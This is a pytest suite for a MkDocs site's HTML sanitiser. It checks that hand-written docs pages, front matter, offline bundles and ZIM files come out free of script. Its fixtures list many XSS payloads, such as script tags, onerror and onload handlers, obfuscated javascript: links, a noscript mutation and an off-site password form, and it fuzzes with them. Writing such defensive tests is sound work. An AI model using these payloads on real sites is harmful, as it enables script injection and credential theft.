"""Hand-written pages of docs/ (issue 22): untrusted text, like the catalogue.

Their HTML is sanitised when the site is built (scripts, event handlers, javascript: links,
frames, forms and anything loaded from another host are taken out) in the site, the offline
bundles and the ZIM files, and `make check` names every line the build would change. A page
that is not UTF-8 text stops check, build and links with its file and line; a local document
stored under another Unicode normal form than the catalogue's is found all the same.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from bs4 import BeautifulSoup
from conftest import FIXTURES
from test_hardening import new_project, replace_line, spm, state

# Tags and attributes that must never come out of a hand-written page: they run script, load
# from another host, post forms, or take over the theme's own elements.
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
    "select", "textarea", "link", "meta", "base", "svg", "math", "video", "audio", "source", "track", "template",
    "noscript",  # parsed as text by a browser running scripts, as markup here: the classic mutation
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset", "cite", "ping"}
LOADING_ATTRIBUTES = {"src", "srcset", "poster", "data", "background"}
THEME_CLASSES = re.compile(r"^md-(?!button(--primary)?$)")


def dangers(root) -> list[str]:
    """What in `root` (a parsed part of a page) could run script, load from elsewhere or spoof the theme."""
    found = []
    for tag in root.find_all(True):
        if tag.name.lower() in FORBIDDEN_TAGS:
            found.append(f"<{tag.name}>")
        for attr, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            name = attr.lower()
            # as browsers read an address: tabs and newlines dropped anywhere, spaces and controls around
            squeezed = re.sub(r"^[\x00-\x20]+|[\x00-\x20]+$", "", re.sub(r"[\t\n\r]", "", value)).lower()
            if name.startswith("on"):
                found.append(f"{tag.name} {attr}=")
            if name in URL_ATTRIBUTES and squeezed.startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"{tag.name} {attr}={value}")
            if name in LOADING_ATTRIBUTES and re.match(r"([a-z][a-z0-9+.-]*:|//|\\\\|/\\)", squeezed):
                found.append(f"{tag.name} loads {value}")
            if name == "style" and re.search(r"url\(|image\(|expression\(|@import", squeezed):
                found.append(f"{tag.name} style={value}")
            if name == "id" and value.startswith("__"):
                found.append(f"{tag.name} id={value}")
            if name == "class" and any(THEME_CLASSES.match(c) for c in value.split()):
                found.append(f"{tag.name} class={value}")
    return found


# (id, Markdown): each becomes docs/cases/<id>.md, between two paragraphs that must survive.
HOSTILE = [
    ("script-block", "<script>alert(1)</script>"),
    ("script-inline", "Text <script>alert(1)</script> and more text."),
    ("img-onerror", '<img src="../img/logo.png" onerror="alert(1)">'),
    ("iframe-other-host", '<iframe src="https://evil.example/"></iframe>'),
    ("object-embed", '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'),
    ("javascript-link", "[click](javascript:alert(1))"),
    ("javascript-link-entity", '<a href="jav&#x61;script:alert(1)">click</a>'),
    ("javascript-link-tab", '<a href="java&#x09;script:alert(1)">click</a>'),
    ("javascript-link-spaces", '<a href=" &#x01;javascript:alert(1)">click</a>'),
    ("javascript-reference-link", "[click][evil]\n\n[evil]: javascript:alert(1)"),
    ("data-link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("vbscript-link", '<a href="vbscript:msgbox(1)">click</a>'),
    ("javascript-cite", '<blockquote cite="javascript:alert(1)">Quoted</blockquote>'),
    ("attr-list-paragraph", 'Hover me\n{ onmouseover="alert(1)" }'),
    ("attr-list-heading", '## A heading { onclick="alert(1)" }'),
    ("attr-list-link", '[a link](https://example.org/){ onclick="alert(1)" }'),
    ("style-url", '<p style="background:url(https://evil.example/t.png)">styled</p>'),
    ("attr-list-style-url", "Styled\n{ style=\"background-image: url('https://evil.example/t.png')\" }"),
    ("style-element", "<style>body{background:url(https://evil.example/x.png)}</style>"),
    (
        "form-off-site",
        '<form action="https://evil.example/steal" method="post"><input name="password"><button>Log in</button></form>',
    ),
    ("image-other-host", "![pixel](https://tracker.example/p.gif)"),
    ("image-protocol-relative", '<img src="//tracker.example/p.gif" alt="pixel">'),
    ("image-srcset", '<img src="../img/logo.png" srcset="https://tracker.example/p.gif 2x" alt="logo">'),
    ("svg-onload", '<svg onload="alert(1)"><circle r="1"/></svg>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("video-other-host", '<video src="https://evil.example/v.mp4" autoplay></video>'),
    ("details-ontoggle", '<details open ontoggle="alert(1)"><summary>More</summary>Hidden</details>'),
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("theme-config-id", '<div id="__config">{"base": "https://evil.example/"}</div>'),
    ("theme-classes", '<div class="md-dialog md-dialog--active">Your session expired: log in again</div>'),
    ("md-in-html-handler", '<div markdown="1" onclick="alert(1)">**bold**</div>'),
]

# (id, Markdown, CSS selector, attributes it keeps): what the shipped pages and Material use
KEPT = [
    ("admonition", '!!! note "Heads up"\n    Body of the note.', "div.admonition.note > p.admonition-title", {}),
    ("table", "| a | b |\n|:--|--:|\n| 1 | 2 |", "table td", {}),
    ("permalink", "## A section", 'h2#a-section > a.headerlink[href="#a-section"]', {"title": "Permanent link"}),
    ("highlight", "```python\nimport os\n```", "div.highlight pre code span", {}),
    ("inline-code", "Use `make check` first.", "p > code", {}),
    ("footnote", "A claim.[^1]\n\n[^1]: The source.", 'sup a.footnote-ref[href="#fn:1"]', {}),
    ("footnote-back", "A claim.[^1]\n\n[^1]: The source.", 'div.footnote li a.footnote-backref[href="#fnref:1"]', {}),
    ("abbr", "The SPM library.\n\n*[SPM]: Social performance management", "abbr", {"title": "Social performance management"}),
    ("details", '??? note "More"\n    Hidden text.', "details.note > summary", {}),
    ("details-html", "<details><summary>More</summary>Hidden text.</details>", "details > summary", {}),
    (
        "image",
        '![The logo](../img/logo.png){ width="120" title="Our logo" loading=lazy }',
        "img",
        {"width": "120", "alt": "The logo"},
    ),
    ("link-title", '[The data](https://example.org/data.json "Open data")', "p > a", {"title": "Open data"}),
    ("relative-link", "[About](../about.md)", 'a[href="../../about/"]', {}),
    ("mailto", "[Write to us](mailto:library@example.org)", 'a[href="mailto:library@example.org"]', {}),
    ("anchor-link", "[Up](#top)", 'a[href="#top"]', {}),
    ("ids-and-classes", "A paragraph\n{ #custom-id .spm-note }", "p#custom-id.spm-note", {}),
    (
        "aria-and-lang",
        '<span lang="fr" aria-label="en français">bonjour</span>',
        "span",
        {"lang": "fr", "aria-label": "en français"},
    ),
    ("md-in-html", '<div class="grid" markdown>\n**bold**\n</div>', "div.grid strong", {}),
    ("button", "[Propose](https://example.org/){ .md-button .md-button--primary }", "a.md-button.md-button--primary", {}),
    ("definition-list", "Term\n:   Definition", "dl > dd", {}),
    ("kbd-mark-sub-sup", "<kbd>Ctrl</kbd> <mark>m</mark> H<sub>2</sub>O x<sup>2</sup>", "kbd", {}),
    ("ordered-start", '<ol start="3"><li>three</li></ol>', "ol", {"start": "3"}),
    ("blockquote", "> Quoted text.", "blockquote > p", {}),
    ("time", '<time datetime="2022-02-01">February 2022</time>', "time", {"datetime": "2022-02-01"}),
]

EXTENSIONS = """\
  - footnotes
  - abbr
  - def_list
  - md_in_html
  - pymdownx.details
  - pymdownx.highlight
  - pymdownx.superfences
"""
HOSTILE_ABOUT = (
    '\n## Hostile\n\nHover here\n{ onmouseover="alert(1)" }\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1))\n'
)
HOSTILE_HOME = (
    '\n<div class="hostile-home" markdown>\n<img src="x" onerror="alert(1)">\n\n[x](javascript:alert(1))\n</div>\n\n'
    "<script>alert(1)</script>\n"
)
FRONT_MATTER = [
    # (id, front matter, what the page must show)
    ("title", 'title: "<script>alert(1)</script>Title"', "title"),
    ("description", "description: '\"><script>alert(1)</script>'", "description"),
    ("author", "author: '\"><img src=x onerror=alert(1)>'", "author"),
    ("redirect", "template: redirect.html\nlocation: 'javascript:alert(1)'", "template"),
]
LOGO = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def add_extensions(project: Path) -> None:
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    assert text.rstrip().endswith("- admonition"), "markdown_extensions is no longer mkdocs.yml's last setting"
    config.write_text(text.rstrip() + "\n" + EXTENSIONS, encoding="utf-8")


def write_cases(project: Path) -> None:
    (project / "docs" / "img").mkdir()
    (project / "docs" / "img" / "logo.png").write_bytes(LOGO)
    cases = project / "docs" / "cases"
    cases.mkdir()
    for name, markdown, *_ in HOSTILE + KEPT:
        text = f"# Case {name}\n\nBefore the case.\n\n{markdown}\n\nAfter the case.\n"
        (cases / f"{name}.md").write_text(text, encoding="utf-8")
    for name, front, _ in FRONT_MATTER:
        (cases / f"front-{name}.md").write_text(f"---\n{front}\n---\n# Front matter\n\nText.\n", encoding="utf-8")
    with open(project / "docs" / "about.md", "a", encoding="utf-8") as handle:
        handle.write(HOSTILE_ABOUT)
    with open(project / "docs" / "index.md", "a", encoding="utf-8") as handle:
        handle.write(HOSTILE_HOME)


def mkdocs_build(project: Path, site: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONDONTWRITEBYTECODE": "1", "SPM_ONLY_LANGUAGES": "en"}
    env.pop("SPM_CATALOGUE", None)
    command = [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(site)]
    return subprocess.run(command, cwd=project, env=env, capture_output=True, text=True, timeout=600)


@pytest.fixture(scope="module")
def cases_site(tmp_path_factory):
    """The fixture library in English, with every case as a page of docs/."""
    project = new_project(tmp_path_factory.mktemp("docspages"), (FIXTURES / "catalogue.yaml").read_text(encoding="utf-8"))
    add_extensions(project)
    write_cases(project)
    shutil.rmtree(project / "site")
    result = mkdocs_build(project, project / "site")
    assert result.returncode == 0, result.stderr[-3000:]
    return project / "site"


def read(site: Path, path: str) -> BeautifulSoup:
    return BeautifulSoup((site / path / "index.html").read_text(encoding="utf-8"), "html.parser")


def article(site: Path, path: str):
    return read(site, path).select_one("article.md-content__inner")


# ---------------------------------------------------------------------------------------------
# The built site


@pytest.mark.parametrize(("name", "markdown"), HOSTILE, ids=[c[0] for c in HOSTILE])
def test_hostile_html_is_taken_out_of_the_page(cases_site, name, markdown):
    content = article(cases_site, f"cases/{name}")
    assert not dangers(content), dangers(content)
    text = content.get_text(" ", strip=True)
    assert "Before the case." in text and "After the case." in text


@pytest.mark.parametrize(("name", "markdown", "selector", "attributes"), KEPT, ids=[c[0] for c in KEPT])
def test_what_pages_legitimately_use_is_kept(cases_site, name, markdown, selector, attributes):
    content = article(cases_site, f"cases/{name}")
    found = content.select_one(selector)
    assert found is not None, content.prettify()[:3000]
    for attr, value in attributes.items():
        assert found.get(attr) == value, found
    assert not dangers(content)


def test_hand_written_pages_of_the_navigation_are_sanitised_too(cases_site):
    about = article(cases_site, "about")
    assert not dangers(about), dangers(about)
    assert "Hover here" in about.get_text() and about.select_one("h2#hostile")
    home = article(cases_site, "")
    part = home.select_one("div.hostile-home")
    assert part is not None and not dangers(part), home.prettify()[:3000]
    assert not [s for s in home.find_all("script")]
    # what the home page's templates add is theirs, untouched: the search form and its button
    form = home.select_one("form.spm-find")
    assert form is not None and form.select_one("input#spm-find") and form.select_one("button.md-button--primary")
    assert home.select_one("h2#dimensions") and home.select_one("h2#newest")


@pytest.mark.parametrize(("name", "front", "shown"), FRONT_MATTER, ids=[c[0] for c in FRONT_MATTER])
def test_front_matter_is_text_and_cannot_choose_a_template(cases_site, name, front, shown):
    soup = read(cases_site, f"cases/front-{name}")
    assert soup.select_one("article.md-content__inner") is not None, "not built with the site's template"
    raw = (cases_site / f"cases/front-{name}/index.html").read_text(encoding="utf-8")
    assert "javascript:" not in raw
    for tag in soup.find_all(True):
        assert not any(a.lower().startswith("on") for a in tag.attrs), tag
        assert "alert(1)" not in (tag.string or "") or tag.name not in ("script",), tag
    if shown == "title":
        topic = soup.select_one('[data-md-component="header-topic"]').get_text(strip=True)
        assert topic == "<script>alert(1)</script>Title"
        assert soup.title.get_text() == "<script>alert(1)</script>Title - SPM Resource Library"
    if shown == "description":
        assert soup.select_one('meta[name="description"]')["content"] == '"><script>alert(1)</script>'


def test_search_index_holds_no_markup_from_hand_written_pages(cases_site):
    index = json.loads((cases_site / "search" / "search_index.json").read_text(encoding="utf-8"))
    texts = [entry for entry in index["docs"] if entry["location"].startswith(("cases/", "about/", ""))]
    for entry in texts:
        soup = BeautifulSoup(entry.get("text", "") + entry.get("title", ""), "html.parser")
        assert not dangers(soup), (entry["location"], dangers(soup))


def test_every_hand_written_page_is_free_of_hostile_html(cases_site):
    """Nothing dangerous anywhere in the content of the pages from docs/."""
    pages = [p for p in (cases_site / "cases").rglob("index.html")]
    assert len(pages) == len(HOSTILE) + len(KEPT) + len(FRONT_MATTER)
    for path in pages:
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        assert not dangers(soup.select_one("article")), (path, dangers(soup.select_one("article")))


# ---------------------------------------------------------------------------------------------
# Offline copies: bundles and ZIM files are built from the same pages


@pytest.fixture(scope="module")
def offline_project(tmp_path_factory):
    project = new_project(tmp_path_factory.mktemp("offline"), (FIXTURES / "catalogue.yaml").read_text(encoding="utf-8"))
    with open(project / "docs" / "about.md", "a", encoding="utf-8") as handle:
        handle.write(HOSTILE_ABOUT)
    return project


def test_bundle_pages_are_sanitised(offline_project, tmp_path):
    from spmlib.model.subset import Subset
    from spmlib.outputs.bundle import make_bundle
    from spmlib.outputs.offline import OfflineOptions

    options = OfflineOptions(offline_project, ("en",), Subset(dimensions=frozenset({4})), out_dir=tmp_path)
    result = make_bundle(options, out=io.StringIO())
    with zipfile.ZipFile(result.zip_path) as archive:
        name = next(n for n in archive.namelist() if n.endswith("/about.html"))
        soup = BeautifulSoup(archive.read(name).decode("utf-8"), "html.parser")
    content = soup.select_one("article.md-content__inner")
    assert "Hover here" in content.get_text() and not dangers(content), dangers(content)


def test_zim_pages_are_sanitised(offline_project, tmp_path):
    libzim = pytest.importorskip("libzim")
    from spmlib.model.subset import Subset
    from spmlib.outputs.offline import OfflineOptions
    from spmlib.outputs.zim import make_zim

    options = OfflineOptions(offline_project, ("en",), Subset(dimensions=frozenset({4})), out_dir=tmp_path)
    result = make_zim(options, out=io.StringIO())
    archive = libzim.reader.Archive(result.path)
    entry = archive.get_entry_by_path("about.html")
    soup = BeautifulSoup(bytes(entry.get_item().content).decode("utf-8"), "html.parser")
    content = soup.select_one("article.md-content__inner")
    assert "Hover here" in content.get_text() and not dangers(content), dangers(content)


# ---------------------------------------------------------------------------------------------
# `make check` names what the build takes out, with its line

# (line of docs/hostile.md, words the warning holds); the page is built from this table
CHECK_CASES = [
    ("<script>alert(1)</script>", ["<script>"]),
    ('<img src="img/logo.png" onerror="alert(1)">', ["onerror"]),
    ('<iframe src="https://evil.example/"></iframe>', ["<iframe>"]),
    ("[click](javascript:alert(1))", ["javascript:alert(1)"]),
    ('## Heading { onclick="alert(1)" }', ["onclick"]),
    ('<p style="background:url(https://evil.example/t.png)">styled</p>', ["style"]),
    ("![pixel](https://tracker.example/p.gif)", ["https://tracker.example/p.gif"]),
    ('<form action="https://evil.example/"><input name="password"></form>', ["<form>"]),
    ('<div id="__config">{}</div>', ["__config"]),
]
CHECK_FRONT = "---\ntitle: Fine\ntemplate: redirect.html\nlocation: 'javascript:alert(1)'\nauthor: someone\n---\n# Front\n"


def hostile_page() -> str:
    return "# Hostile\n" + "".join(f"\n{markdown}\n" for markdown, _ in CHECK_CASES)


def test_check_warns_about_what_the_build_takes_out(tmp_path):
    from test_hardening import VALID

    project = new_project(tmp_path, VALID)
    (project / "docs" / "hostile.md").write_text(hostile_page(), encoding="utf-8")
    (project / "docs" / "front.md").write_text(CHECK_FRONT, encoding="utf-8")
    result = spm(project, "check")
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr[-3000:]
    lines = result.stderr.splitlines()
    for index, (markdown, words) in enumerate(CHECK_CASES):
        number = 3 + 2 * index
        found = [line for line in lines if line.startswith(f"docs/hostile.md:{number}: warning:")]
        assert found, (markdown, number, result.stderr)
        assert all(any(word in line for line in found) for word in words), (words, found)
    for number, key in ((3, "template"), (4, "location"), (5, "author")):
        assert [line for line in lines if line.startswith(f"docs/front.md:{number}: warning:") and key in line], result.stderr
    strict = spm(project, "check", "--strict")
    assert strict.returncode == 1 and "Traceback" not in strict.stderr


def test_check_finds_nothing_to_take_out_of_the_shipped_pages(tmp_path):
    from test_hardening import VALID

    project = new_project(tmp_path, VALID)
    result = spm(project, "check")
    assert result.returncode == 0, result.stderr
    assert not [line for line in result.stderr.splitlines() if line.startswith("docs/")], result.stderr


# ---------------------------------------------------------------------------------------------
# Pages that are not UTF-8 text: (name, bytes of docs/bad.md, line, words)
ENCODINGS = [
    ("latin-1", "# About\n\nCafé au lait\n".encode("latin-1"), 3, ["not UTF-8", "0xe9", "offset 12"]),
    ("utf-16 with BOM", "# About\n\nCafé au lait\n".encode("utf-16"), 1, ["not UTF-8", "0xff", "offset 0", "UTF-16"]),
    ("a stray 0xff", b"# About\n\nfine text\nbad \xff byte\n", 4, ["not UTF-8", "0xff", "offset 23"]),
    ("a NUL byte", b"# About\n\nnul \x00 here\n", 3, ["U+0000"]),
]
COMMANDS = [("check",), ("build", "--jobs", "2"), ("links", "--timeout", "1", "--retries", "0")]


@pytest.mark.parametrize("command", COMMANDS, ids=[c[0] for c in COMMANDS])
@pytest.mark.parametrize(("name", "data", "line", "words"), ENCODINGS, ids=[c[0] for c in ENCODINGS])
def test_a_page_that_is_not_utf8_text_is_a_file_line_error(tmp_path, command, name, data, line, words):
    from test_hardening import VALID

    project = new_project(tmp_path, VALID)
    (project / "docs" / "bad.md").write_bytes(data)
    before = state(project)
    result = spm(project, *command)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in output, output[-3000:]
    assert re.search(rf"(^|\s)docs/bad\.md:{line}: error:", output, re.M), output[-3000:]
    for word in words:
        assert word in output, output[-3000:]
    assert state(project) == before


def test_a_utf8_page_with_a_byte_order_mark_is_text(tmp_path):
    from test_hardening import VALID

    project = new_project(tmp_path, VALID)
    (project / "docs" / "bom.md").write_bytes("# Café\n".encode("utf-8-sig"))
    result = spm(project, "check")
    assert result.returncode == 0 and "bom.md" not in result.stderr, result.stderr


# ---------------------------------------------------------------------------------------------
# Local documents whose names are in another Unicode normal form (macOS writes NFD names)
DOCUMENT = "documents/informes-año/guía-café.pdf"
FORMS = [("NFC in the catalogue, NFD on disk", "NFC", "NFD"), ("NFD in the catalogue, NFC on disk", "NFD", "NFC")]


def document_project(tmp_path: Path, written: str, stored: str) -> Path:
    url = unicodedata.normalize(written, DOCUMENT)
    project = new_project(tmp_path, replace_line(7, f'      - {{lang: en, url: "{url}"}}'))
    path = project / "docs" / unicodedata.normalize(stored, DOCUMENT)
    path.parent.mkdir(parents=True)
    path.write_bytes(b"%PDF-1.4 a guide")
    assert url.encode() != str(path.relative_to(project / "docs")).encode()
    return project


@pytest.mark.parametrize(("name", "written", "stored"), FORMS, ids=[f[0] for f in FORMS])
def test_a_document_in_another_normal_form_is_found(tmp_path, name, written, stored):
    project = document_project(tmp_path, written, stored)
    result = spm(project, "check")
    assert result.returncode == 0, result.stderr
    assert "does not exist" not in result.stderr


@pytest.mark.parametrize(("name", "written", "stored"), FORMS, ids=[f[0] for f in FORMS])
def test_a_document_in_another_normal_form_is_linked_to_the_published_file(tmp_path, name, written, stored):
    project = document_project(tmp_path, written, stored)
    shutil.rmtree(project / "site")
    result = mkdocs_build(project, project / "site")
    assert result.returncode == 0, result.stderr[-3000:]
    page = project / "site" / "resources" / "good-entry" / "index.html"
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    hrefs = [a["href"] for a in soup.select("a[href]") if a["href"].endswith(".pdf")]
    assert hrefs, soup.select_one("article")
    for href in hrefs:
        target = (page.parent / unquote(urlsplit(href).path)).resolve()
        assert target.is_file(), (href, sorted(p.name for p in (project / "site" / "documents").rglob("*")))
        assert target.read_bytes() == b"%PDF-1.4 a guide"


# ---------------------------------------------------------------------------------------------
# Files of docs/ that browsers run when opened: MkDocs copies them as they are, beside the pages
ACTIVE = [
    ("page.html", b"<script>alert(document.cookie)</script>"),
    ("documents/report.htm", b"<img src=x onerror=alert(1)>"),
    ("img/diagram.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("js/extra.js", b"alert(1)"),
    ("data/feed.xml", b'<?xml-stylesheet href="x.xsl"?><a/>'),
    ("page.xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
]


@pytest.mark.parametrize("command", [("check",), ("build", "--jobs", "2")], ids=["check", "build"])
@pytest.mark.parametrize(("path", "data"), ACTIVE, ids=[a[0] for a in ACTIVE])
def test_files_that_browsers_run_are_refused(tmp_path, command, path, data):
    from test_hardening import VALID

    project = new_project(tmp_path, VALID)
    (project / "docs" / path).parent.mkdir(parents=True, exist_ok=True)
    (project / "docs" / path).write_bytes(data)
    before = state(project)
    result = spm(project, *command)
    output = result.stdout + result.stderr
    assert result.returncode == 1 and "Traceback" not in output, output[-3000:]
    assert re.search(rf"(^|\s)docs/{re.escape(path)}: error:", output, re.M), output[-3000:]
    assert state(project) == before


def test_documents_and_images_are_still_published(tmp_path):
    from test_hardening import VALID

    project = new_project(tmp_path, VALID)
    for path in ("img/logo.png", "documents/table.csv", "documents/guide.PDF", "styles/print.css"):
        (project / "docs" / path).parent.mkdir(parents=True, exist_ok=True)
        (project / "docs" / path).write_bytes(LOGO)
    result = spm(project, "check")
    assert result.returncode == 0 and "docs/" not in result.stderr, result.stderr


# ---------------------------------------------------------------------------------------------
# The policy itself, without a build

SETTINGS = (
    ["toc", "tables", "fenced_code", "attr_list", "admonition", *(line.strip("- ") for line in EXTENSIONS.splitlines())],
    {"toc": {"permalink": True}},
)


@pytest.mark.parametrize(("name", "markdown"), HOSTILE, ids=[c[0] for c in HOSTILE])
def test_check_names_every_hostile_case(name, markdown):
    from spmlib.site.docspages import page_notes

    notes = page_notes(f"# Case\n\n{markdown}\n", SETTINGS)
    assert notes and all(line is not None and line >= 3 for line, _ in notes), notes


@pytest.mark.parametrize(("name", "markdown", "selector", "attributes"), KEPT, ids=[c[0] for c in KEPT])
def test_check_says_nothing_about_what_pages_legitimately_use(name, markdown, selector, attributes):
    from spmlib.site.docspages import page_notes

    assert page_notes(f"---\ntitle: Fine\nhide: [toc]\n---\n# Case\n\n{markdown}\n", SETTINGS) == []


@pytest.mark.parametrize(
    ("meta", "kept", "noted"),
    [
        ({"title": "Q&A <b>"}, {"title": "Q&amp;A &lt;b&gt;"}, ["title"]),
        ({"description": 'a "quoted" text'}, {"description": "a &#34;quoted&#34; text"}, []),
        (
            {"hide": ["toc", "navigation"], "search": {"exclude": True}},
            {"hide": ["toc", "navigation"], "search": {"exclude": True}},
            [],
        ),
        ({"hide": "toc"}, {}, ["hide"]),
        ({"search": {"boost": True}}, {}, ["search"]),
        ({"title": ["a"]}, {}, ["title"]),
        ({"template": "redirect.html", "location": "javascript:x", "icon": "x"}, {}, ["template", "location", "icon"]),
    ],
)
def test_front_matter_kept_as_text(meta, kept, noted):
    from spmlib.site.docspages import clean_meta

    cleaned, notes = clean_meta(meta)
    assert cleaned == kept and [key for key, _ in notes] == noted


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"# A\r\n\r\nCaf\xe9\r\n", (3, "byte 0xe9 at offset 10")),
        (b"\xef\xbb\xbf# A\n\xc3", (2, "byte 0xc3 at offset 7")),  # the offset counts the byte-order mark
        ("# A\n".encode("utf-16-be").join([b"\xfe\xff", b""]), (1, "byte 0xfe at offset 0")),
        (b"# A\n\nline\x1b[2J\n", (3, "U+001B")),
        ("# A\n".encode("utf-16-le"), (1, "U+0000")),
        ("\ufeff# Café\n".encode(), None),
        (b"", None),
    ],
)
def test_text_problem(data, expected):
    from spmlib.model.docsfiles import text_problem

    found = text_problem(data)
    if expected is None:
        assert found is None
    else:
        assert found is not None and found[0] == expected[0] and expected[1] in found[1], found


def test_an_exact_name_wins_over_another_normal_form(tmp_path):
    from spmlib.model.docsfiles import spelling_on_disk, stored_path

    nfc, nfd = unicodedata.normalize("NFC", "guía.pdf"), unicodedata.normalize("NFD", "guía.pdf")
    (tmp_path / nfd).write_bytes(b"decomposed")
    assert stored_path(tmp_path, nfc) == nfd and spelling_on_disk(tmp_path, nfc) == nfd
    (tmp_path / nfc).write_bytes(b"composed")
    assert stored_path(tmp_path, nfc) == nfc and spelling_on_disk(tmp_path, nfc) is None
    assert stored_path(tmp_path, "missing.pdf") is None


# Fragments a hostile page is made of; hypothesis strings them together in any order and nesting.
FRAGMENTS = [markdown for _, markdown in HOSTILE] + [
    "<",
    ">",
    '"',
    "'",
    "</p>",
    "<p title='",
    "<a href=",
    "javascript:",
    "&#x6a;",
    "<!--",
    "-->",
    "<![CDATA[",
    "<svg><script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    " onclick=alert(1) ",
    "<div>",
    "</div>",
    "text",
]


def test_nothing_dangerous_survives_any_mix_of_fragments():
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from spmlib.site.docspages import clean_html

    @settings(max_examples=300, deadline=None)
    @given(st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=5), max_size=12))
    def check(parts):
        html = "".join(parts)
        cleaned = clean_html(html)
        assert not dangers(BeautifulSoup(cleaned, "html.parser")), (html, cleaned)
        assert not dangers(BeautifulSoup(cleaned, "lxml")), (html, cleaned)  # a second parser's reading
        assert clean_html(cleaned) == cleaned, (html, cleaned)

    check()
